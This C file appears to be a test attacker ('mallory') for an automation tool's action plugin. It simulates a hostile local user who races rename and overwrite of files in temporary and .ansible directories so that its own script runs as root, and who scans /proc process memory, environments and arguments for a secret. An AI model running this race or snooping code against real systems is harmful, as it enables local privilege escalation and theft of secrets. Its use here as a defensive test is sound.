/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * A hostile local user, for the test of the action plugin: tries for SECONDS to have a program of
 * his run as root, and to read arguments.   mallory SECONDS DIRECTORY NAME RIGHT_COPY
 * DIRECTORY/NAME is where the copy is kept. Around it everything is tried that the rights allow:
 * files under its name, under the names of temporary files, exchanged by rename as fast as it goes,
 * written to once they have been hashed. Prints what could be read of arguments, if anything.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char evil[] = "#!/bin/sh\nid -u >>/tmp/ran-as\n";
static const char secret[] = "correct-horse";

static void copy(const char *from, const char *to)
{
    static char buffer[1 << 20];
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0777);
    ssize_t size = in < 0 ? 0 : read(in, buffer, sizeof(buffer));

    if (out >= 0 && size > 0 && write(out, buffer, (size_t)size) < 0)
        perror(to);
    if (out >= 0)
        fchmod(out, 0777);
    close(in);
    close(out);
}

static void write_evil(const char *path)
{
    int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0777);

    if (out < 0)
        return;
    if (write(out, evil, sizeof(evil) - 1) < 0)
        perror(path);
    fchmod(out, 0777);
    close(out);
}

static void search(const char *path)
{
    static char text[1 << 20];
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    ssize_t size = fd < 0 ? 0 : read(fd, text, sizeof(text));

    if (size > 0 && memmem(text, (size_t)size, secret, sizeof(secret) - 1)) {
        printf("read %s\n", path);
        fflush(stdout);
    }
    if (fd >= 0)
        close(fd);
}

static void search_processes(void)
{
    static const char *const files[] = {"cmdline", "environ", "fd/0", "fd/3", "mem"};
    DIR *proc = opendir("/proc");
    const struct dirent *entry;
    char path[300];

    while (proc && (entry = readdir(proc)))
        for (size_t i = 0; entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && i < 5; i++) {
            if (atoi(entry->d_name) == getpid())
                continue;
            snprintf(path, sizeof(path), "/proc/%s/%s", entry->d_name, files[i]);
            search(path);
        }
    if (proc)
        closedir(proc);
}

/* Every file of a directory is made an evil one, if the rights allow; and read. */
static void attack_files_of(const char *directory)
{
    DIR *files = opendir(directory);
    const struct dirent *entry;
    char path[600];

    while (files && (entry = readdir(files)))
        if (strncmp(entry->d_name, ".new.", 5) == 0 || strncmp(entry->d_name, "ansible", 7) == 0) {
            snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name);
            search(path);
            write_evil(path);
        }
    if (files)
        closedir(files);
}

int main(int argc, char **argv)
{
    char name[300], own[300], good[300], aside[300];

    if (argc != 5)
        return 2;
    umask(0);
    snprintf(name, sizeof(name), "%s/%s", argv[2], argv[3]);
    snprintf(aside, sizeof(aside), "%s.aside", argv[2]);
    snprintf(own, sizeof(own), "%s/.mallory", argv[2]);
    snprintf(good, sizeof(good), "%s/.good", argv[2]);
    for (time_t end = time(NULL) + atoi(argv[1]); time(NULL) < end;) {
        mkdir(argv[2], 0777);
        copy(argv[4], good);
        rename(good, name); /* for the one who hashes */
        usleep(300);
        write_evil(own);
        rename(own, name); /* for the one who runs it */
        usleep(100);
        copy(argv[4], name); /* the same file, before and after it was hashed */
        usleep(300);
        write_evil(name);
        attack_files_of(argv[2]);
        attack_files_of("/tmp");
        attack_files_of("/home/admin/.ansible/tmp");
        search_processes();
        rename(argv[2], aside); /* the directory itself */
        mkdir(argv[2], 0777);
        rmdir(argv[2]);
        rename(aside, argv[2]);
    }
    return 0;
}
